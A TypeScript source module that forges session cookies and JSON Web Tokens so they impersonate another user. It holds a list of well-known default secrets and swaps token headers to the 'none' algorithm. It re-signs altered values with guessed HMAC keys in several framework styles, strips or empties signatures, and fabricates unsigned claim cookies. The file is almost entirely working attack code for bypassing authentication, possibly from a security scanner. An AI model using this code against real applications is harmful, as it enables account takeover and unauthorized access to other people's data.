import { createHmac } from 'node:crypto'

/** Changes the text of a cookie, to that of another user. */
export type Rewrite = (text: string) => string

export interface Forgery {
  /** The forgery, as a continuation of “a cookie”. */
  readonly how: string
  readonly value: string
}

/** Secrets from documentation, examples and defaults. */
const wellKnown: readonly string[] = [
  '',
  'secret',
  'changeme',
  'change-me',
  'change me',
  'password',
  'keyboard cat',
  'dev',
  'development',
  'test',
  'default',
  'key',
  'mysecret',
  'my-secret',
  'my secret',
  'supersecret',
  'super-secret',
  'super secret',
  'secretkey',
  'secret-key',
  'secret_key',
  'your-secret',
  'your-secret-key',
  'your-256-bit-secret',
  'jwt-secret',
  'jwt_secret',
  'jwtsecret',
  'session-secret',
  'session_secret',
  'cookie-secret',
  'shhhhh',
  'shhhhhhared-secret',
  'somesecret',
  'some secret',
  'topsecret',
  'top-secret',
  'insecure',
  '123456',
  '12345',
  'admin',
  'app',
  'SECRET',
  'undefined',
  'null',
  'CHANGE_ME',
  'changeit',
  'replace me',
  'not-so-secret',
  'thisisasecret',
  'this is a secret',
]

const algorithms = ['sha1', 'sha256', 'sha512'] as const
const encodings = ['base64url', 'base64', 'hex'] as const

/** Returns cookies that name another user, which nobody can make who does not know the secret of the application. */
export function forge(value: string, rewrite: Rewrite): readonly Forgery[] {
  const decoded = decodePercent(value)
  const encode = decoded === value ? String : encodeURIComponent
  const found = [...forgePlain(decoded, rewrite), ...forgeParts(decoded, rewrite)]
  return found.map((each) => ({ ...each, value: encode(each.value) }))
}

/** Returns cookies that claim to be of a user, in formats that some applications accept without a signature. */
export function fabricate(address: string, name: string, sub: string): readonly Forgery[] {
  const claims = { sub, id: sub, user: address, userId: sub, email: address, name, exp: 4_000_000_000 }
  const json = JSON.stringify(claims)
  const nested = JSON.stringify({ user: claims, passport: { user: claims }, expires: '2100-01-01T00:00:00Z' })
  const payload = encodeBase64(json)
  return [
    { how: 'with only the address of a user', value: encodeURIComponent(address) },
    { how: 'with only the subject of a user', value: sub },
    { how: 'with only the encoded address of a user', value: encodeBase64(address) },
    { how: 'with unsigned JSON', value: encodeURIComponent(json) },
    { how: 'with unsigned JSON', value: encodeURIComponent(`j:${json}`) },
    { how: 'with encoded and unsigned JSON', value: payload },
    { how: 'with encoded and unsigned JSON', value: encodeBase64(nested) },
    ...forgeHeaders([encodeBase64('{"alg":"HS256"}'), payload, '']),
  ]
}

/** Changes a readable text that no encoding hides. */
function forgePlain(text: string, rewrite: Rewrite): readonly Forgery[] {
  const changed = rewrite(text)
  return changed === text ? [] : [{ how: 'whose text was changed', value: changed }]
}

/** Changes each part of a value of parts, such as a JSON Web Token, and its signature, which is the last one. */
function forgeParts(value: string, rewrite: Rewrite): readonly Forgery[] {
  for (const separator of ['.', '--', '|', '&', ':', '$', '']) {
    const parts = separator === '' ? [value] : value.split(separator)
    const at = parts.findIndex((part) => rewriteEncoded(part, rewrite) !== undefined)
    const changed = rewriteEncoded(parts[at] ?? '', rewrite)
    if (changed === undefined) continue
    const join = (all: readonly string[]) => all.join(separator)
    const forged = parts.with(at, changed)
    if (parts.length === 1) return [{ how: 'whose text was changed', value: changed }]
    const unsigned = forged.slice(0, -1)
    return [
      { how: 'whose text was changed, with the signature of another text', value: join(forged) },
      { how: 'whose text was changed, with an empty signature', value: join([...unsigned, '']) },
      { how: 'whose text was changed, without a signature', value: join(unsigned) },
      ...forgeHeaders(forged),
      ...signAgain(parts, forged, separator),
    ]
  }
  return []
}

/** Replaces the header of a JSON Web Token with one that needs no key, or that names a well-known one. */
function forgeHeaders([header = '', payload = '', ...rest]: readonly string[]): readonly Forgery[] {
  if (rest.length !== 1 || !/^\s*\{[^]*"alg"/.test(decodeBase64(header) ?? '')) return []
  const write = (alg: string) => encodeBase64(JSON.stringify({ alg, typ: 'JWT' }))
  return [
    ...['none', 'None', 'NONE', ''].map((alg) => ({
      how: `for another user, with the algorithm “${alg}”`,
      value: `${write(alg)}.${payload}.`,
    })),
    ...wellKnown.map((secret) => {
      const signed = `${write('HS256')}.${payload}`
      const signature = createHmac('sha256', secret).update(signed).digest('base64url')
      return { how: describeSecret(secret), value: `${signed}.${signature}` }
    }),
  ]
}

/** Signs a changed value with the well-known secret that signed the original one; nothing if none did. */
function signAgain(
  parts: readonly string[],
  forged: readonly string[],
  separator: string,
): readonly Forgery[] {
  const signature = parts.at(-1) ?? ''
  for (const secret of wellKnown)
    for (const sign of waysToSign(secret, separator)) {
      if (sign(parts.slice(0, -1)) !== signature) continue
      const unsigned = forged.slice(0, -1)
      return [{ how: describeSecret(secret), value: [...unsigned, sign(unsigned)].join(separator) }]
    }
  return []
}

/** The ways in which frameworks sign a cookie with a secret: the text or what it encodes, with a key or one derived from it. */
function waysToSign(secret: string, separator: string): readonly ((parts: readonly string[]) => string)[] {
  const keys = [secret, createHmac('sha1', secret).update('cookie-session').digest()]
  const texts = [
    (parts: readonly string[]) => parts.join(separator),
    ([first = '']: readonly string[]) => decodeBase64(first) ?? first,
  ]
  return keys.flatMap((key) =>
    texts.flatMap((textOf) =>
      algorithms.flatMap((algorithm) =>
        encodings.map(
          (encoding) => (parts: readonly string[]) =>
            createHmac(algorithm, key).update(textOf(parts)).digest(encoding).replace(/=+$/, ''),
        ),
      ),
    ),
  )
}

function describeSecret(secret: string): string {
  return `for another user, signed with the well-known secret “${secret}”`
}

/**
 * Returns whether all of a value is text that anyone can read and write: neither a signature nor an id that nobody can
 * guess is a part of it.
 */
export function isReadable(value: string): boolean {
  const decoded = decodePercent(value)
  return [decoded, decodeBase64(decoded) ?? ''].some(
    (text) => text !== '' && isText(text) && !/[\w+/-]{16,}/.test(text),
  )
}

/** Returns an encoded text with changes; undefined if it encodes no text, or none to change. */
function rewriteEncoded(part: string, rewrite: Rewrite): string | undefined {
  const text = decodeBase64(part)
  if (text === undefined) return undefined
  const changed = rewrite(text)
  return changed === text ? undefined : encodeBase64(changed, part)
}

/** Decodes base64, in bytes, because a format may surround its texts with others. */
function decodeBase64(part: string): string | undefined {
  return /^[\w+/=-]{8,}$/.test(part) ? Buffer.from(part, 'base64').toString('latin1') : undefined
}

/** @param like the alphabet and the padding to use */
function encodeBase64(text: string, like = ''): string {
  const bytes = Buffer.from(text, 'latin1')
  if (!/[+/=]/.test(like)) return bytes.toString('base64url')
  return like.endsWith('=') ? bytes.toString('base64') : bytes.toString('base64').replace(/=+$/, '')
}

const isText = (text: string) => /^[\t\n\r -~]*$/.test(text)

function decodePercent(value: string): string {
  try {
    return decodeURIComponent(value)
  } catch {
    return value
  }
}
